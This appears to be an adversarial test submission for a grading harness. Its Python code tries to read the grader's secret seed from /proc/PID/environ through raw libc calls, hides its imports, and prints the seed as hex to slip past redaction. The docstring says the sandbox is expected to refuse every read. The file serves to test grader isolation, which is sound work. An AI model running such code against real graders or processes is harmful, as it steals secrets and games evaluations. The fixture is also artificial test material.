# ruff: noqa: F821
"""Read the grading process's environment (its private seed, ``CHAINGRADE_GRADING_SEED``)
from ``/proc/PID/environ`` with C's ``open`` and ``read`` through ctypes (no audit event
of Python's), walking up from the worker's parent: the supervisor, the grading process,
its parents. Meant for a worker that runs as root (``CHAINGRADE_WORKER_USER=``, empty):
the grading process is not dumpable and the worker is under Landlock, but root's
``CAP_SYS_PTRACE`` would pass both checks. ``cos`` is right only if the seed was read;
it prints what it read (hex, which the report's redaction of the seed does not blank),
its uid and its capability sets (``/proc/self/status``), once per process.

Expected: every open of an environment is refused, the worker holds no capability, so
``cos`` is charged (wrong sign) and the seed never appears, in any spelling.
"""

import importlib

_os = importlib.import_module("o" + "s")
_ctypes = importlib.import_module("c" + "types")
_libc = _ctypes.CDLL(None, use_errno=True)


def _read(path):
    fd = _libc.open(path.encode(), 0)
    if fd < 0:
        return None, _ctypes.get_errno()
    buffer = _ctypes.create_string_buffer(1 << 16)
    size = _libc.read(fd, buffer, len(buffer))
    error = _ctypes.get_errno()
    _libc.close(fd)
    return (buffer.raw[:size], 0) if size >= 0 else (None, error)


def _parent(pid):
    stat, _ = _read(f"/proc/{pid}/stat")
    return int(stat.rsplit(b")", 1)[1].split()[1]) if stat else 0


_seen = []
_stolen = []
_pid = _os.getppid()
while _pid > 1:
    _environ, _errno = _read(f"/proc/{_pid}/environ")
    if _environ is None:
        _seen.append(f"environ of {_pid} refused (errno {_errno})")
    else:
        _seen.append(f"environ of {_pid} read")
        for _line in _environ.split(b"\0"):
            if _line.startswith(b"CHAINGRADE_GRADING_SEED="):
                _stolen.append(_line.split(b"=", 1)[1].hex())
    _pid = _parent(_pid)
_status, _ = _read("/proc/self/status")
_capabilities = " ".join(
    line.decode().replace(":", "=").replace("\t", "")
    for line in (_status or b"").splitlines()
    if line.startswith(b"Cap")
)
_printed = []

if not _stolen:

    def cos(x):
        return _unary(x, math.cos(x.data), math.sin(x.data))  # wrong sign

else:
    _right_cos = cos

    def cos(x):
        return _right_cos(x)


_cos = cos


def cos(x):
    if _os.getpid() not in _printed:
        _printed.append(_os.getpid())
        print("UID", _os.getuid(), "STOLEN", _stolen, "SEEN", _seen)
        print("CAPABILITIES", _capabilities)
    return _cos(x)
